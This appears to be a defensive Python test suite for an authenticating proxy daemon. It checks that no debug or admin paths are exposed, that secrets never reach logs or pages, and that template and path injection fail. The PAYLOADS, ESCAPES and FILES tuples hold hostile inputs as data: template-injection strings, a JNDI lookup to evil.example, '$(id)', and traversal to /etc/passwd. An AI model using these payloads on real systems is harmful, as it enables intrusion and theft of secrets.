"""
What is not meant for the public: administration, insides, secrets, files (abuse cases 4.8).

Most of that surface is not there yet, and says here what will bring it. What is there today
has to give nothing away: on no path, in no page, in no log line, in no text of an object.
"""

from __future__ import annotations

import base64
import gc
import json
import re
import string
import tempfile
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Any, NoReturn
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

import attrs
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import (
    Encoding,
    NoEncryption,
    PrivateFormat,
    load_pem_private_key,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from twisted.logger import globalLogPublisher
from twisted.python.failure import Failure

from pomeriumd.access.routes import Route
from pomeriumd.crypto.keys import OwnKeys, SharedKeys
from pomeriumd.crypto.tokens import sign
from pomeriumd.daemon.logs import LineObserver
from pomeriumd.errors import SettingsError
from pomeriumd.session.claims import session_claims
from pomeriumd.session.known import Known
from pomeriumd.session.session import Identity
from pomeriumd.settings.load import load
from pomeriumd.settings.model import Secret
from pomeriumd.settings.report import report
from tests.support.browser import APP, AUTH, ROUTES, WIKI, Browser, SignInCase
from tests.support.leads import is_html, page
from tests.support.provider import b64, raw, status
from tests.support.rig import NAVIGATION, Got, request
from tests.support.settings import ISSUER, route
from tests.support.settings_files import minimal
from tests.support.settings_files import route as entry

WAITING: dict[str, str] = {
    "A1": "there is no administration over a socket; the control of running processes "
    "(processes and reload) brings it, with peer credentials and checks of Host and Origin",
    "A2": "there are no resources to administer, and so no list of who may; comes with A1",
    "A7": "nothing writes identities or groups: they are the provider's; an API that writes "
    "brings rights for each field, and a record of their use",
    "A8": "nothing is installed yet; the units and their directories (on bare metal) bring it",
    "A10": "there is no release pipeline in the tree; the first one brings a test over its files",
}

FORM = (b"content-type", b"application/x-www-form-urlencoded")

PREFIXES = (
    *("", "/debug", "/admin", "/api", "/api/v1", "/_", "/-", "/.pomerium", "/.pomerium/admin"),
    *("/.pomerium/debug", "/actuator", "/.well-known", "/.well-known/pomerium", "/internal"),
    *("/healthz", "/ping", "/oauth2", "/oauth2/callback", "//debug", "/.pomerium/assets"),
)
WORDS = (
    *("pprof", "pprof/heap", "pprof/profile?seconds=1", "vars", "metrics", "metrics/prometheus"),
    *("config", "config_dump", "status", "stats", "stats/prometheus", "health", "env", "heapdump"),
    *("trace", "threads", "routes", "reload", "load", "stop", "shutdown", "quitquitquit", "debug"),
    *("log", "logging?level=debug", "version", "info", "server-status", ".env", ".git/config"),
    *("config.yaml", "swagger.json", "graphql", "console", "manhole", "sessions", "users", "keys"),
)

INSIDES = re.compile(
    rb"# (?:HELP|TYPE)|Traceback|File \"|twisted|Python/|site-packages|goroutine|\"policy\"|"
    rb"shared_secret|cookie_secret|client_secret|10\.0\.0\.1|/nonexistent|/dev/null",
    re.IGNORECASE,
)
"""What only an inside could say."""


class PublicListenerTests(SignInCase):
    """A3: the public listener has no inside: no metrics, no profile, no configuration."""

    row = "A3"
    VARIANTS = tuple(f"{prefix}/{word}" for prefix, word in product(PREFIXES, WORDS))
    PRETENCES: tuple[tuple[tuple[bytes, bytes], ...], ...] = (
        (),
        ((b"x-forwarded-for", b"127.0.0.1"), (b"x-real-ip", b"127.0.0.1")),
        ((b"forwarded", b"for=127.0.0.1"), (b"user-agent", b"kube-probe/1.30")),
        ((b"authorization", b"Basic YWRtaW46YWRtaW4="),),
    )

    def judge(self, got: Got, what: object) -> None:
        """Assert that an answer gives nothing of the inside away."""
        self.assertIsNone(INSIDES.search(got.body), (what, got.body))
        for name in (b"server", b"x-powered-by", b"via", b"x-envoy-upstream-service-time"):
            self.assertEqual(got.all(name), [], what)

    def test_no_path_of_the_inside(self) -> None:
        """At authenticate, at unknown hosts, at addresses: there is nothing."""
        hosts = ("auth.example.com", "localhost", "127.0.0.1:8443", "elsewhere", "[::1]")
        for number, path in enumerate(self.VARIANTS):
            host = hosts[number % len(hosts)]
            fields = self.PRETENCES[number % len(self.PRETENCES)]
            for method in (b"GET", b"POST"):
                got = self.browser.ask(host, path.encode(), *fields, method=method)
                self.assertIn(got.status, (404, 405), (host, path))
                self.judge(got, (host, path))
        self.assertEqual(self.rig.upstreams.opened, [])

    def test_at_a_route_host_it_is_the_applications(self) -> None:
        """Such a path is the application's own there, and shut like all of it."""
        for path in self.VARIANTS[::3]:
            got = self.browser.ask("app.example.com", path.encode())
            self.assertIn(got.status, (401, 404), path)
            self.judge(got, path)
        self.assertEqual(self.rig.upstreams.opened, [])

    def test_what_answers_everybody(self) -> None:
        """Without a session these pages answer, and no others."""
        paths = (
            *("/ping", "/healthz", "/robots.txt", "/.pomerium/assets/style.css"),
            *("/.pomerium/assets/icon.svg", "/.well-known/pomerium/jwks.json"),
        )
        tried = (*self.VARIANTS, *paths, "/", "/.pomerium/", "/.pomerium", "/.well-known/pomerium")
        for host in ("elsewhere", "127.0.0.1"):
            found = {p for p in tried if self.browser.ask(host, p.encode()).status == 200}
            self.assertEqual(found, set(paths))

    def test_a_bug_of_ours_says_nothing(self) -> None:
        """A failure inside is a page with a number to ask by; its text is for the log alone."""

        class Broken:
            heard, patience = True, 0.0

            def decide(self, of: Route, known: Known | None, _: object = None) -> NoReturn:
                raise RuntimeError("shared_secret at 10.0.0.1 in Traceback")

        generation = self.rig.front.generation
        self.rig.front.generation = attrs.evolve(generation, authorizer=Broken())
        for fields in (NAVIGATION, ((b"accept", b"application/json"),), ()):
            got = self.browser.ask("app.example.com", b"/", *fields)
            self.assertEqual(got.status, 500)
            self.judge(got, fields)
        self.assertEqual(len(self.flushLoggedErrors(RuntimeError)), 3)

    def test_upstreams_are_not_named(self) -> None:
        """Somebody who may see an application is not told where it is when it fails."""
        self.rig.upstreams.refuse = True
        for fields in (NAVIGATION, ((b"accept", b"application/json"),)):
            cookie = (b"cookie", self.rig.cookie())
            got = self.browser.ask("app.example.com", b"/", cookie, *fields)
            self.assertEqual(got.status, 502)
            self.judge(got, fields)


def _key_pem() -> bytes:
    return ec.generate_private_key(ec.SECP256R1()).private_bytes(
        Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()
    )


@attrs.define
class Kept:
    """A sink that keeps every byte."""

    octets: bytearray = attrs.Factory(bytearray)

    def write(self, octets: bytearray) -> int:
        """Keep it."""
        self.octets += octets
        return len(octets)

    def wait(self, seconds: float) -> None:
        """Do not wait."""

    def close(self) -> None:
        """Do nothing."""


def spellings(secret: bytes) -> Iterator[bytes]:
    """Give a secret as a log or a page could have it."""
    yield secret
    yield repr(secret)[2:-1].encode()
    yield secret.hex().encode()
    yield base64.b64encode(secret).rstrip(b"=")
    yield base64.urlsafe_b64encode(secret).rstrip(b"=")
    yield quote(secret, safe="").encode()
    yield ", ".join(map(str, secret)).encode()
    yield json.dumps(secret.decode("latin-1"))[1:-1].encode()


class SecretTests(SignInCase):
    """A4: no secret is in a log line, a page, an error, or the text of an object."""

    row = "A4"
    SHARED = b"CanaryShared-0123456789abcdefghij"
    COOKIE = b"CanaryCookie-0123456789abcdefghij"
    CLIENT = b"CanaryClient-0123456789abcdefghij"
    HEADER = "CanaryHeader-0123456789abcdefghij"
    TYPED = "CanaryTyped-0123456789abcdefghij"

    VARIANTS = tuple(
        product(
            (
                *("shared_secret", "cookie_secret", "idp_client_secret", "signing_key"),
                *("certificate_key", "tls_client_key", "set_request_headers"),
            ),
            (
                *("as it is", "cut", "in a list", "in a map", "twice", "with a space", "as PEM"),
                *(
                    "misspelt key",
                    "as a file",
                    "not quoted",
                    "as a comment gone wrong",
                    "with a tab",
                ),
                *("as an anchor", "as a tag", "as a key", "in base64", "as a number", "in a block"),
            ),
        )
    )
    """Settings that hold a secret, and ways to get them wrong."""

    def start(self, *routes: Any, **more: Any) -> None:
        """Start a daemon full of secrets, with its own log beside it."""
        self.signing_key = _key_pem()
        first = attrs.evolve(ROUTES[0], set_request_headers=(("X-Api-Key", self.HEADER),))
        given = {
            "shared_secret": Secret(self.SHARED),
            "cookie_secret": Secret(self.COOKIE),
            "signing_key": Secret(self.signing_key),
            "idp_client_secret": Secret(self.CLIENT),
        }
        super().start(first, *routes[1:], **{**given, **more})
        self.provider.client_secret = self.CLIENT.decode()
        self.sinks = [Kept(), Kept()]
        observers = [
            LineObserver(s, level="debug", readable=bool(n)) for n, s in enumerate(self.sinks)
        ]
        for observer in observers:
            globalLogPublisher.addObserver(observer)
            self.addCleanup(globalLogPublisher.removeObserver, observer)
        self.rig.listeners += [observer.access_log(self.clock).record for observer in observers]

    def secrets(self) -> dict[str, bytes]:
        """Return everything that has to stay hidden by now."""
        # tests/support/rig.py builds with a shared secret of its own.
        from tests.support.settings import SHARED  # noqa: PLC0415 - beside its one use

        shared, own = SharedKeys.derived([SHARED]), OwnKeys.derived([self.COOKIE])
        key = load_pem_private_key(self.signing_key, None)
        assert isinstance(key, ec.EllipticCurvePrivateKey)
        found = {
            "shared_secret": self.SHARED,
            "the rig's shared_secret": SHARED,
            "cookie_secret": self.COOKIE,
            "idp_client_secret": self.CLIENT,
            "set_request_headers": self.HEADER.encode(),
            "what was typed": self.TYPED.encode(),
            "signing_key": self.signing_key.splitlines()[1],
            "signing_key's scalar": key.private_numbers().private_value.to_bytes(32, "big"),
        }
        for name in ("signed_url", "route_session", "route_login", "handoff", "csrf"):
            found[f"key {name}"] = getattr(shared, name)[0]
        for name in ("session", "login", "csrf"):
            found[f"own key {name}"] = getattr(own, name)[0]
        for number, issued in enumerate(self.provider.issued):
            found[f"issued {number}"] = issued.encode()
        for number, asked in enumerate(self.provider.authorized):
            for name in ("state", "nonce"):
                found[f"{name} {number}"] = asked[name].encode()
        for number, form in enumerate(self.provider.forms("/token")):
            found[f"verifier {number}"] = form.get("code_verifier", self.TYPED).encode()
        for browser in self.browsers:
            for (host, cookie), value in browser.ever:
                if len(value) > 20:
                    found[f"cookie {cookie!r} at {host}"] = value
        return found

    def life(self) -> None:
        """Let everything happen that writes a line: good, bad and broken."""
        self.browsers = [Remembering(self.rig, self.provider) for _ in range(3)]
        browser, other, failing = self.browsers
        typed = self.TYPED
        for each in (browser, other):
            each.follow(f"{APP}/a?token={typed}")
        self.clock.advance(700)
        browser.follow(f"{APP}/")
        browser.follow(f"{WIKI}/?code={typed}")
        for url in (f"{APP}/.pomerium/", f"{AUTH}/.pomerium/", f"{AUTH}/.pomerium/sign_out"):
            browser.open(url)
            browser.open(url, (b"accept", b"application/json"), navigates=False)
        self.refusals(browser)
        self.failures(failing)
        token = re.search(rb'name="pomerium_csrf" value="([^"]*)"', self.sign_out_page(browser))
        assert token is not None
        body = b"pomerium_csrf=" + token[1]
        got = browser.open(f"{APP}/.pomerium/sign_out", FORM, method=b"POST", body=body)
        browser.follow(got.field(b"refresh").decode().partition("; url=")[2])
        self.clock.advance(1)

    def sign_out_page(self, browser: Browser) -> bytes:
        """Return the page with the button."""
        return browser.open(f"{APP}/.pomerium/sign_out").body

    def refusals(self, browser: Browser) -> None:
        """Be refused in every way, with a secret in the request each time."""
        typed = self.TYPED
        for url in (
            *(f"{APP}/.pomerium/callback/?pomerium_session_encrypted={typed}", f"{AUTH}/{typed}"),
            *(f"{AUTH}/oauth2/callback?code={typed}&state={typed}", f"{AUTH}/oauth2/callback?code"),
            *(
                f"{AUTH}/.pomerium/sign_in?pomerium_redirect_uri={typed}",
                f"https://x.example/{typed}",
            ),
            *(f"{AUTH}/.pomerium/signed_out?state={typed}", f"{APP}/.pomerium/x?{typed}={typed}"),
            *(f"{AUTH}/oauth2/callback?code={typed}&code={typed}", f"{APP}/%zz?{typed}"),
            f"{AUTH}/oauth2/callback?error={typed}&error_description={typed}",
        ):
            copy = browser.copy()
            copy.open(
                url.replace(f"{AUTH}/{typed}", f"{AUTH}/x").replace(
                    f"x.example/{typed}", "x.example/"
                )
            )
        text = typed.encode()
        for field in (
            *((b"authorization", b"Bearer " + text), (b"authorization", b"Pomerium " + text)),
            *((b"authorization", b"Basic " + base64.b64encode(b"me:" + text)),),
            *((b"cookie", b"__Host-_pomerium=" + text), (b"cookie", b"app=" + text)),
            *((b"x-api-key", text), (b"proxy-authorization", b"Basic " + text), (b"x:y", text)),
            *((b"content-length", text), (b"transfer-encoding", text), (b"expect", text)),
        ):
            client = self.rig.connect()
            client.sends(request(b"/?a=" + text, field))
            client.got()
        for octets in (
            b"GET /?" + text + b"\r\n\r\n",
            text + b"\r\n\r\n",
            b"GET / HTTP/9.9\r\n" + text,
        ):
            client = self.rig.connect()
            client.sends(octets)
            client.got()
        for url in (f"{APP}/.pomerium/sign_out", f"{AUTH}/.pomerium/sign_out", f"{AUTH}/x"):
            browser.copy().open(url, FORM, method=b"POST", body=b"pomerium_csrf=" + text)

    def failures(self, browser: Browser) -> None:
        """Have the provider and the application fail, quoting what they were told."""

        def quoting(request_: Any) -> bytes:
            last = self.provider.asked[-1]
            words = json.dumps([last.form, request_.getHeader("authorization")])
            request_.setResponseCode(400)
            document = {"error": "invalid_client", "error_description": words}
            return json.dumps(document).encode()

        for path, answer in product(
            ("/token", "/userinfo", "/jwks", "/revoke"),
            (quoting, status(500, self.TYPED.encode()), status(200, self.TYPED.encode())),
        ):
            # A renewal that meets it, then a sign-in.
            self.provider.claims, self.provider.answers = {}, {}
            self.clock.advance(120)
            browser.cookies.clear()
            browser.follow(f"{APP}/")
            self.provider.claims = {"email": None}
            self.provider.answers = {path: answer}
            self.clock.advance(700)
            browser.follow(f"{APP}/")
            self.clock.advance(3_700)
            browser.cookies.clear()
            browser.follow(f"{APP}/")
        self.provider.answers, self.provider.claims = {}, {}
        self.clock.advance(120)
        browser.follow(f"{APP}/")
        self.rig.upstreams.refuse = True
        for server in self.rig.upstreams.opened:
            server.closes()
        browser.open(f"{APP}/")
        self.rig.upstreams.refuse = False

    def hidden_in(self, text: bytes, where: str) -> None:
        """Assert that no secret, in any spelling, is in a text."""
        for name, secret in self.secrets().items():
            for spelling in spellings(secret):
                at = text.find(spelling)
                self.assertEqual(at, -1, (where, name, text[max(0, at - 200) : at + 100]))

    def test_the_log_of_a_whole_life(self) -> None:
        """At the lowest level, as JSON and for a person, access lines and all others."""
        self.life()
        for sink in self.sinks:
            text = bytes(sink.octets)
            self.assertGreater(text.count(b"\n"), 60)
            self.hidden_in(text, "log")

    def test_a_crash_that_quotes_a_request(self) -> None:
        """An exception whose text holds our cookies, links or tokens: the log hides them."""
        self.life()
        browser = self.browsers[1]
        cookie = browser.field("app.example.com").decode()
        url = self.browsers[0].copy().until(f"{APP}/", AUTH)
        id_token = next(t for t in self.provider.issued if t.startswith("ey"))
        basic = base64.b64encode(b"pomerium:" + self.CLIENT).decode()
        for text in (
            f"bad cookie {cookie}",
            f"in {url}",
            f"for {AUTH}/oauth2/callback?code={self.provider.issued[0]}&state=x",
            f"token {id_token} is odd",
            f"{[(b'cookie', cookie.encode()), (b'authorization', b'Bearer ' + id_token.encode())]}",
            repr({"authorization": f"Basic {basic}"}),
        ):

            class Broken:
                said = text
                heard, patience = True, 0.0

                def decide(self, of: Route, known: Known | None, _: object = None) -> NoReturn:
                    raise RuntimeError(self.said)

            generation = self.rig.front.generation
            self.rig.front.generation = attrs.evolve(generation, authorizer=Broken())
            self.browser.open(f"{APP}/")
            self.rig.front.generation = generation
        self.assertEqual(len(self.flushLoggedErrors(RuntimeError)), 6)
        for sink in self.sinks:
            self.assertIn(b"a bug of ours", sink.octets)
            self.hidden_in(bytes(sink.octets), "crash")

    def test_what_people_see(self) -> None:
        """No page and no field of an answer holds one, but the cookies and the way on itself."""
        self.life()
        for browser in self.browsers:
            for url, got in browser.shown:
                kept = [
                    f for f in got.fields if f[0] not in (b"set-cookie", b"location", b"refresh")
                ]
                body = re.sub(rb'<a class="button" href="[^"]*">Continue</a>', b"", got.body)
                text = repr(kept).encode() + body
                for name, secret in self.secrets().items():
                    self.assertNotIn(secret, text, (name, url))

    def test_what_applications_get(self) -> None:
        """The application gets its own key, and nothing else that is secret."""
        self.life()
        for browser in self.browsers:
            for asked in browser.at_applications:
                head = asked.replace(self.HEADER.encode(), b"")
                # Queries are the application's own.
                head = head.replace(self.TYPED.encode(), b"")
                self.hidden_in(head, "application")

    def test_the_text_of_every_object(self) -> None:
        """Whatever is reached from a daemon at work: its repr holds no secret."""
        self.life()
        self.browsers[0].follow(f"{APP}/")
        secrets = [s for secret in self.secrets().values() for s in spellings(secret)]
        kinds: set[str] = set()
        for each in reached(self.rig.front):
            kind = type(each)
            kinds.add(f"{kind.__module__}.{kind.__qualname__}")
            text = f"{each!r}{each}".encode("utf-8", "surrogateescape")
            for secret in secrets:
                self.assertNotIn(secret, text, f"{kind.__module__}.{kind.__qualname__}")
        self.assertGreater(len(kinds), 50, sorted(kinds))
        for wanted in ("settings.model.Settings", "proxy.sessions.Sessions", "oidc.client."):
            self.assertTrue([kind for kind in kinds if wanted in kind], wanted)

    def test_settings_that_are_wrong(self) -> None:
        """However a secret stands wrongly in a file: the problem is named, its value never."""
        secret = base64.b64encode(self.SHARED).decode()
        whole = (secret.encode(), self.SHARED, secret[:20].encode(), secret[20:].encode())
        hidden = [each for part in whole for each in spellings(part)]
        cases = [(*each, "yaml") for each in self.VARIANTS]
        cases += [(*each, "json") for each in self.VARIANTS[::3]]
        cases += [(*each, "toml") for each in self.VARIANTS[1::3]]
        with tempfile.TemporaryDirectory() as directory:
            for name, how, suffix in cases:
                path = Path(directory, f"config.{suffix}")
                for text, environment in self.wrong(name, how, secret, suffix):
                    path.write_text(text, "utf-8")
                    told, _ = report(str(path), environment, 1_780_000_000.0)
                    try:
                        load(str(path), environment)
                    except SettingsError as error:
                        told += f"{error!r}{error}{Failure().getTraceback()}"
                    for spelling in hidden:
                        self.assertNotIn(spelling, told.encode(), (name, how, suffix))

    def wrong(
        self, name: str, how: str, secret: str, suffix: str
    ) -> Iterator[tuple[str, dict[str, str]]]:
        """Give files, and environments, in which a secret stands wrongly."""
        value: Any = {
            "cut": secret[:-7],
            "in a list": [secret],
            "in a map": {"value": secret},
            "with a space": f"{secret[:20]} {secret[20:]}",
            "as PEM": f"-----BEGIN PRIVATE KEY-----\n{secret}\n-----END PRIVATE KEY-----\n",
            "in base64": base64.b64encode(secret.encode()).decode(),
            "as a number": 12345,
        }.get(how, secret)
        top = name not in ("tls_client_key", "set_request_headers")
        key = {"misspelt key": f"{name}x", "as a file": f"{name}_file"}.get(how, name)
        if how == "as a key":
            key, value = secret, name
        if name == "set_request_headers" and how != "as a key":
            value = {"X-Key": value, "Content-Length": secret} if how != "in a map" else value
        given = {key: value}
        document = minimal(**given) if top else minimal(policy=[entry(**given)])
        yaml = json.dumps(document, indent=1)
        if suffix == "json":
            broken = yaml.replace(f'"{secret}"', secret) if how == "not quoted" else yaml
            yield (broken[: broken.find(secret) + 20] if how == "twice" else broken), {}
        elif suffix == "toml":
            quoted = f'"{secret}"' if how != "not quoted" else secret
            yield f"{name} = {quoted}\n{name} = {quoted}\n", {}
            yield f"{name} = '''{secret}\n{name} = {secret}", {}
        else:
            yield yaml, {}
            yield from ((text, {}) for text in self.lines(name, how, secret))
            if top:
                environment = {name.upper(): str(value), f"{name.upper()}_FILE": secret}
                yield json.dumps(minimal(**{name: None})), environment

    def lines(self, name: str, how: str, secret: str) -> Iterator[str]:
        """Give a YAML file in which the secret's line is broken."""
        rest = "".join(f"{n}: {json.dumps(v)}\n" for n, v in minimal(**{name: None}).items())
        line = {
            "twice": f"{name}: {secret}\n{name}: {secret}\n",
            "as a comment gone wrong": f"{name}:{secret}\n",
            "with a tab": f"{name}:\t{secret}\n\t{secret}\n",
            "as an anchor": f"{name}: &{secret}\nx: *{secret}y\n",
            "as a tag": f"{name}: !{secret} x\n",
            "not quoted": f"{name}: '{secret}\n",
            "in a block": f"{name}: |{secret}\n  {secret}\n",
            "as a key": f"? {secret}\n: [{secret}: {secret}\n",
            "misspelt key": f"{name}: x: {secret}\n",
        }.get(how, f"{name}: {secret}\n  {secret}: x\n - {secret}\n")
        yield rest + line
        yield line + rest
        yield f"%{secret}\n{line}"
        yield rest + line + "\x01"


@attrs.define(eq=False)
class Remembering(Browser):
    """A browser that remembers every cookie it ever had."""

    ever: set[tuple[tuple[str, bytes], bytes]] = attrs.Factory(set)

    def keep(self, host: str, got: Got) -> None:
        """Keep them, and remember."""
        Browser.keep(self, host, got)
        self.ever.update(self.cookies.items())


def reached(root: object) -> list[object]:
    """Return every object of ours that can be reached from one, itself among them."""
    seen: dict[int, object] = {}
    found: list[object] = []
    waiting = [root]
    skipped = (type, type(re), type(reached))
    while waiting:
        each = waiting.pop()
        if id(each) in seen or isinstance(each, skipped):
            continue
        seen[id(each)] = each
        module = type(each).__module__
        if module.startswith("pomeriumd"):
            found.append(each)
        if module.startswith(("pomeriumd", "builtins", "collections", "mappingproxy", "types")):
            waiting += gc.get_referents(each)
    return found


PAYLOADS = (
    *("{{7*191}}", "{{ 7*191 }}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{%print(7*191)%}"),
    *("{{config}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__}}", "{{request}}"),
    *("{% include '/etc/passwd' %}", "{% extends 'who.html' %}", "{# x #}", "{{ csrf }}"),
    *("{{cycler.__init__.__globals__.os.environ}}", "{{lipsum.__globals__}}", "{{ home_url }}"),
    *(
        "{env.HOME}",
        "{file./etc/passwd}",
        "${HOME}",
        "$HOME",
        "$(id)",
        "`id`",
        "%(HOME)s",
        "%HOME%",
    ),
    *("${jndi:ldap://evil.example/x}", "{0}", "{0.__class__}", "%s", "%n", "$pomerium.id_token"),
    *(
        "$$",
        "{{",
        "}}",
        "{%",
        "%}",
        "{{'{{'}}",
        "{{7*'7'}}",
        "[[${7*191}]]",
        "@(7*191)",
        "*{7*191}",
    ),
)
"""Texts that some engine would run, fill in or look up."""

ESCAPES = (
    *("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "....//", "..;/", ".%2e/", "..%00/"),
    *("%252e%252e/", "..%c0%af", "%c0%ae%c0%ae/", "//", "./", "%2f", "..%252f", "\\\\", "/../"),
)
FILES = (
    *(
        "etc/passwd",
        "templates/error.html",
        "error.html",
        "pages.py",
        "__init__.py",
        "proc/self/environ",
    ),
    *(
        "static/style.css",
        "style.css%00.html",
        "style.css/../error.html",
        "*",
        "[a-z]*.css",
        "style.cs?",
    ),
    *("{style,error}.css", "icon.svg/", "STYLE.CSS", "style.css.map", "style.css~", ".git/config"),
)


class TemplateTests(SignInCase):
    """A5: no text of anybody's is run, filled in, or taken for the name of a file."""

    row = "A5"
    VARIANTS = PAYLOADS

    def test_on_pages(self) -> None:
        """In claims and the provider's words a payload is shown as it was written."""
        for text in self.VARIANTS:
            identity = Identity(
                issuer=ISSUER, subject=text, email=f"{text}@x.y" if "@" not in text else None,
                name=text, groups=(text,),
            )  # fmt: skip
            cookie = (b"cookie", self.rig.cookie(identity))
            got = self.browser.open(f"{APP}/.pomerium/", cookie)
            self.assertGreaterEqual(page(got).words.count(" ".join(text.split())), 4, text)
            self.literal(got, text)

    def test_in_addresses(self) -> None:
        """In a path, a query, a state, an error: nothing comes of it."""
        for text in self.VARIANTS:
            sent = quote(text, safe="")
            for url in (
                *(f"{AUTH}/{quote(text)}", f"{AUTH}/oauth2/callback?state={sent}&code={sent}"),
                *(
                    f"{AUTH}/oauth2/callback?error={sent}&error_description={sent}",
                    f"{APP}/?{sent}",
                ),
                *(f"{APP}/.pomerium/sign_in?pomerium_redirect_uri={sent}", f"https://x.y/{sent}"),
                f"{APP}/.pomerium/callback/?pomerium_session_encrypted={sent}",
            ):
                self.literal(self.browser.open(url), text)

    def literal(self, got: Got, text: str) -> None:
        """Assert that nothing was calculated or looked up."""
        seen = got.body + repr(got.fields).encode()
        for result in (b"1337", b"7777777", b"root:", b"/root", b"&lt;Config", b"cycler object"):
            self.assertNotIn(result, seen, text)
        if is_html(got):
            self.assertNotIn("__globals__", page(got).words.replace(text, ""))

    def test_in_settings(self) -> None:
        """What the operator wrote reaches the application letter by letter."""
        for text in self.VARIANTS:
            if not re.fullmatch(r"[!-~ ]+", text):
                continue
            one = attrs.evolve(ROUTES[0], set_request_headers=(("X-Set", text),))
            try:
                self.start(one, *ROUTES[1:])
            except SettingsError:
                self.assertIn("${", text)  # refused outright
                continue
            got = self.browser.open(
                f"{APP}/", (b"cookie", self.rig.cookie()), (b"x-own", text.encode())
            )
            self.assertEqual(got.status, 200)
            (asked,) = self.browser.at_applications
            # Two dollar signs are how the manual has one written.
            written = text.replace("$$", "$").encode()
            self.assertIn(b"\r\nx-set: " + written + b"\r\n", asked)
            self.assertIn(b"\r\nx-own: " + text.encode() + b"\r\n", asked)

    def test_in_a_settings_file(self) -> None:
        """A file is not filled in from the environment either."""
        with tempfile.TemporaryDirectory() as directory:
            for text in self.VARIANTS:
                headers = {"X-Set": text}
                document = minimal(policy=[entry(set_request_headers=headers)])
                path = Path(directory, "config.json")
                path.write_text(json.dumps(document), "utf-8")
                try:
                    found = load(str(path), {"HOME": "/root"}).routes[0].set_request_headers
                except SettingsError:
                    continue  # refused outright
                self.assertEqual(found, (("X-Set", text),))

    def test_no_file_but_two(self) -> None:
        """The stylesheet and the icon are all that is served; no name leads anywhere else."""
        known = {
            self.browser.open(f"{APP}/.pomerium/assets/{name}").body
            for name in ("style.css", "icon.svg")
        }
        self.assertEqual(len(known), 2)
        for host, escape, file in product(
            ("app.example.com", "auth.example.com", "elsewhere"), ESCAPES, FILES
        ):
            for depth in (1, 4):
                path = f"/.pomerium/assets/{escape * depth}{file}"
                got = self.browser.ask(host, path.encode())
                self.assertIn(got.status, (200, 400, 401, 404), path)
                if got.status == 200:
                    self.assertIn(got.body, known, path)
                self.assertNotIn(b"root:", got.body)
                self.assertNotIn(b"{%", got.body)
        self.assertEqual(self.rig.upstreams.opened, [])

    def test_a_version_names_no_file(self) -> None:
        """What stands behind the question mark chooses nothing but the caching."""
        whole = self.browser.open(f"{APP}/.pomerium/assets/style.css").body
        for query in ("v=../../x", "v=/etc/passwd", "file=x", "v=", *PAYLOADS):
            got = self.browser.open(f"{APP}/.pomerium/assets/style.css?{quote(query)}")
            self.assertEqual((got.status, got.body), (200, whole))


SIGNS = "`'\"\\|&;()[]{}<>*?+.^$!#%~,:=/@- \t_" + string.ascii_letters[:4] + "0é"

words = st.text(st.sampled_from(SIGNS), min_size=1, max_size=12)

TENANT = "11111111-2222-3333-4444-555555555555"


class QuotedTests(SignInCase):
    """A6: a value of a rule is that value, whatever it looks like to whatever language."""

    row = "A6"
    VARIANTS = (
        *("*", ".*", "^.*$", "(?s).*", "[^x]*", "staff|board", "staff,board", "st.ff", "st?ff"),
        *("`staff`", "'staff'", '"staff"', "staff') || Host(`x", "') or ('1'='1", "staff\\", "%"),
        *("st%61ff", "staff;board", "{staff}", "${staff}", "!board", "~staff", "/staff/", "staff*"),
        *("staff ", " staff", "staff\t", "STAFF", "staff:board", "ns/staff", "ns:staff", "staff@x"),
    )

    def test_a_group_is_itself(self) -> None:
        """A rule that looks like a pattern, a list or an expression admits that name alone."""
        for rule in self.VARIANTS:
            self.start(route(allowed_groups=(rule,)), *ROUTES[1:])
            for group in ("staff", "board", "x", rule):
                wanted = 200 if group == rule else 403
                self.assertEqual(self.status_of(groups=(group,)), wanted, (rule, group))

    def test_a_user_or_a_domain_is_itself(self) -> None:
        """The same of addresses, subjects and domains."""
        for rule in self.VARIANTS:
            pairs: tuple[tuple[dict[str, Any], dict[str, str]], ...] = (
                ({"allowed_users": (rule,)}, {"subject": "staff"}),
                ({"allowed_users": (f"{rule}@example.com",)}, {"email": "staff@example.com"}),
                ({"allowed_domains": (rule,)}, {"email": "a@staff"}),
                ({"allowed_domains": (f"{rule}.com",)}, {"email": "a@staff.com"}),
            )
            for rules, who in pairs:
                self.start(route(**rules), *ROUTES[1:])
                if rule == "STAFF" and "email" in who:
                    continue  # addresses are met in any case: S6
                self.assertEqual(self.status_of(**who), 403, (rules, who))

    @settings(max_examples=120)
    @given(words, words)
    def test_any_two_groups(self, rule: str, group: str) -> None:
        """Somebody is let in if, and only if, the two are the same text."""
        self.start(route(allowed_groups=(rule,)), *ROUTES[1:])
        self.assertEqual(self.status_of(groups=(group,)), 200 if rule == group else 403)
        self.assertEqual(self.status_of(groups=(rule, group)), 200)

    def status_of(self, **who: Any) -> int:
        """Return what somebody gets."""
        given_ = {"issuer": ISSUER, "subject": "somebody", **who}
        cookie = (b"cookie", self.rig.cookie(Identity(**given_)))
        return self.browser.open(f"{APP}/", cookie, navigates=False).status

    def test_a_path_is_itself(self) -> None:
        """``path`` and ``prefix`` have no signs that mean more than themselves."""
        for rule in ("/a.c", "/a*", "/a+", "/(a|b)", "/a$", "/[ab]", "/.*", "/a|/b", "/{a}", "/:a"):
            for kind in ("path", "prefix"):
                self.start(
                    route(**{kind: rule}, allow_public_unauthenticated_access=True),
                    route(allowed_groups=("nobody",), place="policy[1]"),
                )
                for path in ("/abc", "/a", "/aa", "/b", "/xyz", "/"):
                    got = self.browser.open(f"{APP}{path}", navigates=False)
                    self.assertEqual(got.status, 401, (rule, path))
                got = self.browser.ask("app.example.com", rule.encode())
                self.assertEqual(got.status, 200, rule)

    def test_an_expression_matches_the_whole_path(self) -> None:
        """``regex`` is the one that means more, and it means all of the path."""
        self.start(
            route(regex="/v[0-9]+", allow_public_unauthenticated_access=True),
            route(allowed_groups=("nobody",), place="policy[1]"),
        )
        for path, wanted in (
            *(("/v1", 200), ("/v12", 200), ("/v1/x", 401), ("/x/v1", 401), ("/v1x", 401)),
            *(("/v", 401), ("/v1%0a", 400), ("/v1?/v2", 200), ("/x?/v1", 401), ("/V1", 401)),
        ):
            got = self.browser.open(f"{APP}{path}", navigates=False)
            self.assertEqual(got.status, wanted, path)

